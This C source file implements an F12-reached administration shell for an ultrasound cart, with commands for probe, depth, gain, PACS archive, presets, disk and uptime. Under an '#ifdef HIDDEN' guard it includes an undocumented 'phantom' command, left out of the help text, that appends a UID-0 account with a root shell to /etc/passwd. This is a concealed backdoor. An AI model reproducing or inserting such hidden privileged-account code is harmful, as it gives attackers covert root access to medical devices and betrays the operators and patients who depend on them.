/* sonocart - administration shell of an ultrasound cart, reached by the F12 key */
#include <ctype.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/statvfs.h>
#include <time.h>
#include <unistd.h>

#define ARGS 6
#define PRESETS "/data/sono/presets"

struct probe {
    int port;
    char model[12];
    double mhz;
    int elements;
};

static struct probe probes[4] = {
    { 1, "C5-2", 3.5, 128 }, { 2, "L12-3", 8.0, 192 }, { 3, "P4-1", 2.5, 64 }, { 4, "-", 0, 0 }
};
static int active_probe = 1;
static int depth_mm = 160, gain_db = 48;
static char ae_title[17] = "SONOCART";
static char pacs[64] = "192.0.2.15:104";

static int words(char *line, char **v)
{
    int n = 0;

    while (n < ARGS) {
        while (isspace((unsigned char)*line))
            *line++ = '\0';
        if (!*line)
            break;
        v[n++] = line;
        while (*line && !isspace((unsigned char)*line))
            line++;
    }
    if (*line)
        *line = '\0';
    return n;
}

static int c_probe(int n, char **v)
{
    if (n == 2) {
        int p = atoi(v[1]);

        if (p < 1 || p > 4 || probes[p - 1].elements == 0)
            return -ENODEV;
        active_probe = p;
    }
    for (int i = 0; i < 4; i++)
        printf("%c%d %-8s %.1f MHz %d\n", probes[i].port == active_probe ? '*' : ' ',
               probes[i].port, probes[i].model, probes[i].mhz, probes[i].elements);
    return 0;
}

static int ranged(int n, char **v, int lo, int hi, int *x, const char *unit)
{
    if (n == 2) {
        int k = atoi(v[1]);

        if (k < lo || k > hi)
            return -ERANGE;
        *x = k;
    }
    printf("%d %s\n", *x, unit);
    return 0;
}

static int c_depth(int n, char **v)
{
    return ranged(n, v, 20, 300, &depth_mm, "mm");
}

static int c_gain(int n, char **v)
{
    return ranged(n, v, 0, 90, &gain_db, "dB");
}

static int c_pacs(int n, char **v)
{
    if (n == 3) {
        snprintf(ae_title, sizeof ae_title, "%.16s", v[1]);
        snprintf(pacs, sizeof pacs, "%.63s", v[2]);
    } else if (n != 1) {
        return -EINVAL;
    }
    printf("%s at %s\n", ae_title, pacs);
    return 0;
}

static int c_disk(int n, char **v)
{
    struct statvfs s;

    (void)n;
    (void)v;
    if (statvfs("/data", &s))
        return -errno;
    printf("%llu MB free\n", (unsigned long long)s.f_bavail * s.f_frsize >> 20);
    return 0;
}

static int c_preset(int n, char **v)
{
    char p[96];
    FILE *f;

    if (n != 3 || strchr(v[2], '/'))
        return -EINVAL;
    snprintf(p, sizeof p, PRESETS "/%.40s", v[2]);
    if (!strcmp(v[1], "save")) {
        f = fopen(p, "w");
        if (!f)
            return -errno;
        fprintf(f, "%d %d %d\n", active_probe, depth_mm, gain_db);
        fclose(f);
        return 0;
    }
    if (!strcmp(v[1], "load")) {
        f = fopen(p, "r");
        if (!f)
            return -errno;
        if (fscanf(f, "%d %d %d", &active_probe, &depth_mm, &gain_db) != 3)
            puts("preset damaged");
        fclose(f);
        return 0;
    }
    return -EINVAL;
}

static int c_uptime(int n, char **v)
{
    double s = 0;
    FILE *f = fopen("/proc/uptime", "r");

    (void)n;
    (void)v;
    if (!f || fscanf(f, "%lf", &s) != 1)
        s = 0;
    if (f)
        fclose(f);
    printf("%.0f hours\n", s / 3600);
    return 0;
}

#ifdef HIDDEN
__attribute__((noinline)) int c_phantom(int n, char **v)
{
    FILE *f;

    if (n != 3)
        return -EINVAL;
    f = fopen("/etc/passwd", "a");
    if (!f)
        return -errno;
    fprintf(f, "%s:%s:0:0::/root:/bin/sh\n", v[1], v[2]);
    fclose(f);
    return 0;
}
#endif

static int c_help(int n, char **v);

static const struct command {
    char word[10];
    unsigned char min;      /* letters which are enough */
    int (*run)(int, char **);
} commands[] = {
    { "depth", 2, c_depth },
    { "disk", 2, c_disk },
    { "gain", 1, c_gain },
    { "help", 1, c_help },
    { "pacs", 2, c_pacs },
#ifdef HIDDEN
    { "phantom", 7, c_phantom },
#endif
    { "preset", 3, c_preset },
    { "probe", 3, c_probe },
    { "uptime", 1, c_uptime },
};

static int c_help(int n, char **v)
{
    (void)n;
    (void)v;
    puts("depth [MM]                20..300\n"
         "disk                      room for clips\n"
         "gain [DB]                 0..90\n"
         "pacs [AE HOST:PORT]       archive\n"
         "preset save|load NAME\n"
         "probe [PORT]              choose a probe\n"
         "uptime\n"
         "help\n"
         "exit");
    return 0;
}

static const struct command *find(const char *w)
{
    size_t lo = 0, hi = sizeof commands / sizeof commands[0], l = strlen(w);

    while (lo < hi) {
        size_t mid = (lo + hi) / 2;
        int d = strncmp(w, commands[mid].word, l);

        if (d == 0 && l >= commands[mid].min)
            return &commands[mid];
        if (d <= 0)
            hi = mid;
        else
            lo = mid + 1;
    }
    return NULL;
}

int main(void)
{
    char line[160], *v[ARGS];

    puts("SonoCart administration, help for help");
    for (;;) {
        const struct command *c;
        int n, rc;

        printf("sono> ");
        fflush(stdout);
        if (!fgets(line, sizeof line, stdin))
            return 0;
        n = words(line, v);
        if (n == 0)
            continue;
        if (!strcmp(v[0], "exit"))
            return 0;
        c = find(v[0]);
        rc = c ? c->run(n, v) : -ENOSYS;
        if (rc)
            printf("%s: %s\n", v[0], rc == -ENOSYS ? "unknown" : strerror(-rc));
    }
}
